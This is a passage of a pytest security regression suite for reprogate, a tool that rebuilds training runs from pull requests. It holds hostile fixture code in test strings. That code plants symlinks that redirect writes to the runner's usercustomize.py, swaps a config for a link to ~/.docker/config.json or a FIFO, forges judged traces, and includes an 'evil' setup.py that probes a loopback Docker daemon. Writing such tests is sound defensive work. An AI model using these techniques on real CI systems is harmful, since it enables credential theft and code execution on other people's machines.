    """The project's own `sitecustomize.py`, on the ranks' path by the record's PYTHONPATH (which a
    record may set): it runs in every interpreter the ranks start, the preflight's rank hosts
    among them, which then wait, alive, while reprogate copies the shards in and reads the
    configuration from the work folder."""
    from reprogate.core.gittree import tree_id

    (project / "tiny" / "project" / "sitecustomize.py").write_text(code)

    def change(record: dict[str, Any]) -> None:
        record["execution"]["env"]["PYTHONPATH"] = "."
        record["source"]["tree"] = tree_id(project / "tiny" / "project")

    edit_record(project / RECORD, change)


PLANT_SHARD_LINK = """
import os
from pathlib import Path
work = Path.cwd().parents[1]  # the ranks run in <work folder>/tiny/project
shard = work / "tiny" / "data" / "shard-000.txt"
if not os.path.lexists(shard):  # the preflight: the dataset stage has not copied the shards yet
    try:
        os.symlink({target!r}, shard)
    except FileExistsError:
        pass
"""


def test_a_shard_copied_in_after_the_preflight_never_writes_through_a_link_a_rank_left(cli: Cli, project: Path, tmp_path: Path) -> None:
    """The preflight's ranks leave `tiny/data/shard-000.txt -> ~/.local/.../usercustomize.py`
    where the dataset stage will copy the shard. Before this fix reprogate, outside the
    sandbox, copied the pull request's shard through the link: a file of the runner's written
    with content the pull request chose (Python that every later step's interpreter would run)."""
    require_sandbox()
    target = tmp_path / "runner-home" / ".local" / "usercustomize.py"
    target.parent.mkdir(parents=True)
    target.write_text("# the runner's own file\n")
    at_every_start(project, PLANT_SHARD_LINK.format(target=str(target)))
    work = tmp_path / "work"
    result = cli("rebuild", str(project / RECORD), "--out", str(tmp_path / "out"), "--workdir", str(work))
    assert target.read_text() == "# the runner's own file\n", "reprogate wrote the shard through the rank's link"
    shard = work / "tiny" / "data" / "shard-000.txt"
    assert not shard.is_symlink() and shard.read_bytes() == (project / "tiny" / "data" / "shard-000.txt").read_bytes()
    assert result.exit_code == 0, result.output  # the honest rest of the rebuild still passes


PLANT_CONFIG = """
import os, threading, time
from pathlib import Path
work = Path.cwd().parents[1]
config = work / "tiny" / "config" / "tiny.yaml"
try:
    claimed = os.open(work / "planted", os.O_CREAT | os.O_EXCL | os.O_WRONLY)  # one rank plants
except FileExistsError:
    claimed = None
if claimed is not None and config.is_file() and not config.is_symlink():
    swap = config.with_name("swap")
    if {how!r} == "link":
        os.symlink({secret!r}, swap)
    else:
        os.mkfifo(swap)
        def drip():  # a writer that never ends and never fills a read
            with open(swap, "wb", buffering=0) as out:
                while True:
                    out.write(b"#")
                    time.sleep(0.5)
        threading.Thread(target=drip, daemon=True).start()
    os.replace(swap, config)
"""


@pytest.mark.parametrize("how", ["link", "fifo"])
def test_the_configuration_is_read_once_from_a_regular_file_never_through_a_link_or_fifo_a_rank_left(project: Path, tmp_path: Path, how: str) -> None:
    """The config stage runs after the preflight. A waiting rank swaps the work folder's
    configuration for a link to the runner's `~/.docker/config.json`: before this fix the
    changed keys, values included, reached the verdict and the report (and so the comment). Or
    for a FIFO it keeps writing to: the rebuild never ended."""
    require_sandbox()
    secret = tmp_path / "runner-home" / ".docker" / "config.json"
    secret.parent.mkdir(parents=True)
    secret.write_text(json.dumps({"auths": {"ghcr.io": {"auth": SECRET}}}))
    at_every_start(project, PLANT_CONFIG.format(how=how, secret=str(secret)))
    git(project, "init", "-q")  # with history, the stage names the keys that changed, and their values
    git(project, "add", "-A")
    git(project, "commit", "-qm", "head")
    out = tmp_path / "out"
    command = [sys.executable, "-m", "reprogate", "rebuild", str(project / RECORD), "--out", str(out), "--workdir", str(tmp_path / "work")]
    done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)  # on the old code the FIFO never ended
    verdict = json.loads((out / "verdict.json").read_text())
    assert verdict["diagnosis"] == "config", done.stdout[-3000:] + done.stderr[-3000:]
    assert SECRET not in everything(done, out), "the file behind the rank's link reached what the rebuild wrote"
    config = next(s for s in verdict["stages"] if s["name"] == "config")
    assert "not followed" in config["detail"] or "not a regular file" in config["detail"], config["detail"]


SWAP_FIRST_TRACE = """
import os, runpy, shutil, sys
from pathlib import Path
work = Path(os.environ["REPROGATE_TRACE_DIR"]).parents[2]
if os.environ["REPROGATE_SEED"] != "1" and os.environ["RANK"] == "0":  # a later seed: the first one was judged
    first = sorted((work / "runs" / "seed-1" / "trace").glob("trace-rank*.jsonl"))
    (work / "judged.jsonl").write_bytes(b"".join(p.read_bytes() for p in first))
    for path in first:
        path.write_text('{"type": "meta", "note": "forged after it was judged"}\\n')
sys.argv = ["train.py", *sys.argv[1:]]
runpy.run_path("train.py", run_name="__main__")
"""


def test_the_rebuild_records_trace_is_the_bytes_the_run_judged_not_what_a_later_seed_left(cli: Cli, project: Path, tmp_path: Path) -> None:
    """With two seeds, the second seed's ranks rewrite the first seed's trace after the run stage
    judged it. Before this fix the rebuild record re-read the files, so the trace it
    published (and its checksum the verdict names) was not the one the verdict was made from."""
    require_sandbox()
    entrypoint(project, "swap_trace.py", SWAP_FIRST_TRACE)
    edit_record(project / RECORD, lambda r: r["job"].update(entrypoint=["python", "swap_trace.py", "--config", "../config/tiny.yaml"]))
    work, out = tmp_path / "work", tmp_path / "out"
    result = cli("rebuild", str(project / RECORD), "--seeds", "2", "--out", str(out), "--workdir", str(work))
    judged = (work / "judged.jsonl").read_bytes()  # the first seed's traces as they were when the second seed started
    assert b"forged after it was judged" in (work / "runs" / "seed-1" / "trace" / "trace-rank0.jsonl").read_bytes(), result.output
    assert (out / "rebuild-trace.jsonl").read_bytes() == judged, "the rebuild record published a trace that was not judged"
    written = yaml.safe_load((out / "rebuild-record.yaml").read_text())
    assert written["reference"]["trace"]["checksum"] == "sha256:" + hashlib.sha256(judged).hexdigest()


def test_a_candidate_venv_the_workflow_let_build_sdists_never_serves_a_reference_rebuild(tmp_path: Path, venv_cache: Path) -> None:
    """A candidate built with `--allow-source-builds` ran the pull request's build backends,
    which wrote into the venv being built what they chose. Before this fix the venv was cached
    by the lock's digest alone, and a reference rebuild of the same lock was handed it (a hit)."""
    require_sandbox()
    from support.locked import locked_record

    from reprogate.core.canonical import file_digest
    from reprogate.core.record import read_record
    from reprogate.rebuild.inject import runtime_folder
    from reprogate.rebuild.realizers.base import RealizeRequest
    from reprogate.rebuild.realizers.venv import VenvRealizer

    if not os.environ.get("UV_FIND_LINKS") and os.environ.get("CI") != "true":
        pytest.skip("no local wheelhouse for uv venv --seed")
    repo = tmp_path / "repo"
    shutil.copytree(FIXTURES / "projects" / "locked", repo)
    wheel = hostile_wheel(repo / "wheels")
    (repo / "requirements.txt").write_text(f"hostilepth @ {wheel.as_uri()} \\\n    --hash=sha256:{hashlib.sha256(wheel.read_bytes()).hexdigest()}\n")
    lock = {"path": "requirements.txt", "checksum": file_digest(repo / "requirements.txt"), "format": "pip-requirements"}
    record = locked_record(repo, "locked-pth", {"used": False, "reason": "venv"}, {"lock_files": [lock]})
    cache = tmp_path / "cache"

    def realize(environment: str, source_builds: bool, name: str) -> Any:
        work = tmp_path / name
        work.mkdir()
        request = RealizeRequest(read_record(record), repo, work, environment, cache, runtime_folder(work / "runtime"), source_builds=source_builds)
        return VenvRealizer().realize(request)

    candidate = realize("candidate", True, "candidate")
    reference = realize("reference", False, "reference")
    assert reference.identity.cache == "miss" and reference.path != candidate.path, "the reference rebuild was handed the candidate's venv"
    assert candidate.identity.built_with == "pull-request-source-builds"  # the verdict says how it was built
    again = realize("reference", False, "reference-again")
    assert again.identity.cache == "hit" and again.path == reference.path  # the cache still serves what it may


def _stall_after_headers(handler: Any, state: Any) -> None:
    handler.send_response(200)
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    handler.wfile.flush()
    state.done.wait(120)  # the headers, then nothing while the test runs


def _wrong_length_then_close(handler: Any, state: Any) -> None:
    """HEAD answers the manifest's size; GET says Content-Length 500, sends the whole 1000 bytes and closes."""
    from support.hostile_http import answer

    if handler.command == "HEAD":
        answer(handler, 200, b"x" * 1000)
        return
    handler.send_response(200)
    handler.send_header("Content-Length", "500")
    handler.end_headers()
    handler.wfile.write(b"x" * 1000)
    handler.wfile.flush()
    handler.close_connection = True


def _short_body_then_close(handler: Any, state: Any) -> None:
    handler.send_response(200)
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    handler.wfile.write(b"x" * 10)
    handler.wfile.flush()
    handler.connection.shutdown(socket.SHUT_RDWR)


def _drip_the_headers(handler: Any, state: Any) -> None:
    """One byte of a header line every half second, forever: no read ever waits for the read timeout."""
    import time

    handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
    while not state.done.is_set():
        handler.wfile.write(b"a")
        handler.wfile.flush()
        time.sleep(0.5)


@pytest.mark.parametrize("behaviour", [_stall_after_headers, _wrong_length_then_close, _short_body_then_close, _drip_the_headers], ids=lambda b: b.__name__[1:])
def test_a_dataset_server_that_breaks_the_transfer_is_unreachable_not_corrupt(tmp_path: Path, behaviour: Callable[[Any, Any], None]) -> None:
    """Servers that break a transfer: the data on them says nothing, so the answer is exit 3
    (unreachable), within --max-time, never 1 (truncated or corrupt). Before this fix a GET whose
    Content-Length was wrong (HEAD had said the manifest's size) was reported truncated."""
    from support.hostile_http import hostile

    manifest = tmp_path / "d.manifest.yaml"
    shard = "{name: s0.bin, bytes: 1000, checksum: 'sha256:" + hashlib.sha256(b"x" * 1000).hexdigest() + "'}"
    manifest.write_text(f"apiVersion: reprogate/v1\nkind: DatasetManifest\nid: d\nversion: '1'\nalgorithm: sha256\nshards:\n- {shard}\n")
    with hostile(behaviour) as server:
        command = [
            sys.executable,
            "-m",
            "reprogate",
            "dataset",
            "verify",
            str(manifest),
            "--root",
            server.url,
            "--timeout",
            "2",
            "--retries",
            "0",
            "--max-time",
            "6",
        ]
        done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
        server.done.set()
    assert done.returncode == 3 and "unreachable" in done.stdout, done.stdout + done.stderr
    assert "truncated" not in done.stdout and "corrupt" not in done.stdout, done.stdout


LOOPBACK_PROBE_SETUP = """
import json, os, socket
reached = "no"
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
        reached = s.recv(64).decode()
except OSError as exc:
    reached = "refused: " + type(exc).__name__
with open({marker!r}, "w") as out:
    json.dump({{"reached": reached}}, out)
from setuptools import setup
setup(name="evil", version="1.0")
"""


def test_a_sdist_a_pull_request_adds_to_its_pinned_lock_is_not_built_by_a_reference_rebuild(
    cli: Cli, tmp_path: Path, venv_cache: Path, listeners: dict[str, str]
) -> None:
    """Only a candidate was built from wheels only. A pull request that adds `evil @ …tar.gz`
    (hashed) to its lock and re-pins its record got a `--environment reference --contract-from
    BASE` rebuild that built the sdist: its setup.py ran in the build sandbox, which keeps the
    host's network, and reached a Docker daemon on the host's loopback. A lock the head's record
    pins differently from the base's is the pull request's: wheels only, as for a candidate."""
    require_sandbox()
    from support.archives import sdist
    from support.locked import locked_record

    from reprogate.core.canonical import file_digest

    if not os.environ.get("UV_FIND_LINKS") and os.environ.get("CI") != "true":
        pytest.skip("no local wheelhouse for uv venv --seed")
    repo = tmp_path / "repo"
    shutil.copytree(FIXTURES / "projects" / "locked", repo)
    wheel = hostile_wheel(repo / "wheels")
    pinned = f"hostilepth @ {wheel.as_uri()} \\\n    --hash=sha256:{hashlib.sha256(wheel.read_bytes()).hexdigest()}\n"

    def commit(lock_text: str, message: str) -> str:
        (repo / "requirements.txt").write_text(lock_text)
        lock = {"path": "requirements.txt", "checksum": file_digest(repo / "requirements.txt"), "format": "pip-requirements"}
        record = locked_record(repo, "locked-sdist", {"used": False, "reason": "venv"}, {"lock_files": [lock]}, realizer="venv")
        (repo / "records").mkdir(exist_ok=True)
        (repo / "records" / "locked.yaml").write_text(yaml.safe_dump(record, sort_keys=False))
        git(repo, "add", "-A")
        git(repo, "commit", "-qm", message)
        return git(repo, "rev-parse", "HEAD")

    git(repo, "init", "-q")
    base = commit(pinned, "base")
    marker = tmp_path / "work" / "setup-ran.json"  # the work folder is writable in the build sandbox
    setup = LOOPBACK_PROBE_SETUP.format(port=listeners["DAEMON_PORT"], marker=str(marker))
    evil = sdist(tmp_path / "evil-1.0.tar.gz", {"evil-1.0/setup.py": setup, "evil-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"})
    commit(pinned + f"evil @ {evil.as_uri()} \\\n    --hash=sha256:{hashlib.sha256(evil.read_bytes()).hexdigest()}\n", "add a package from an sdist")
    result = cli(
        "rebuild",
        str(repo / "records" / "locked.yaml"),
        "--contract-from",
        base,
        "--cache",
        str(tmp_path / "cache"),
        "--workdir",
        str(tmp_path / "work"),
        "--out",
        str(tmp_path / "out"),
    )
    ran = json.loads(marker.read_text()) if marker.exists() else None
    assert ran is None, f"the pull request's setup.py ran in a reference rebuild (loopback: {ran['reached'] if ran else ''})"
    assert result.exit_code == 2 and "evil" in result.output, result.output


def test_a_reference_trace_kept_in_the_project_folder_is_not_in_the_ranks_view(cli: Cli, project: Path, tmp_path: Path) -> None:
    """The project keeps its reference trace inside the pinned folder, so the work folder's copy
    of the project holds it too. Before this fix only the checkout's copy was masked, and an
    entrypoint that copies the trace's lines as its own passed the bitwise contract in a blink."""
    require_sandbox()
    from reprogate.core.gittree import tree_id

    shutil.copy(project / "tiny" / "reference" / "trace.jsonl", project / "tiny" / "project" / "expected-trace.jsonl")

    def change(record: dict[str, Any]) -> None:
        record["reference"]["trace"]["path"] = "tiny/project/expected-trace.jsonl"
        record["source"]["tree"] = tree_id(project / "tiny" / "project")
        record["job"]["entrypoint"] = ["python", "-c", REPLAY.format(trace="expected-trace.jsonl")]

    edit_record(project / RECORD, change)
    out = tmp_path / "out"
    result = cli("rebuild", str(project / RECORD), "--out", str(out), "--workdir", str(tmp_path / "work"))
    verdict = json.loads((out / "verdict.json").read_text())
    assert verdict["verdict"] != "pass", "the ranks read the reference trace from the work folder and replayed it"
    assert (tmp_path / "work" / "tiny" / "project" / "expected-trace.jsonl").stat().st_size > 0, result.output  # masked, not removed


def test_an_environment_only_head_says_its_environment_is_the_pull_requests_code_too(cli: Cli, project: Path, tmp_path: Path) -> None:
    """An environment-only pull request runs the base's reviewed tree, but in the environment it
    pins: a package it adds (a `.pth`, a patched torch) runs with the training and can write the
    reference's numbers as well as any training script. Before this fix the report said only
    "Reviewed code" and the claim named the base's tree; now both say the environment is the pull
    request's code and that the approval vouches for it."""
    require_sandbox()
    base, _ = code_pull_request(project, lambda p: edit_record(p / RECORD, lambda r: r["container"].update(reason="a new environment pin")))
    out = tmp_path / "out"
    result = cli("rebuild", str(project / RECORD), "--contract-from", base, "--out", str(out))
    verdict = json.loads((out / "verdict.json").read_text())
    assert verdict["environment"]["code"] == {**verdict["environment"]["code"], "ran": "base", "environment_changed": True}, result.output
    assert "that environment is the pull request's" in verdict["claim"]["text"] and "approval" in verdict["claim"]["text"]
    assert "is code too and ran with the training" in (out / "report.md").read_text()
    assert result.exit_code == 0, result.output  # an honest environment still goes green
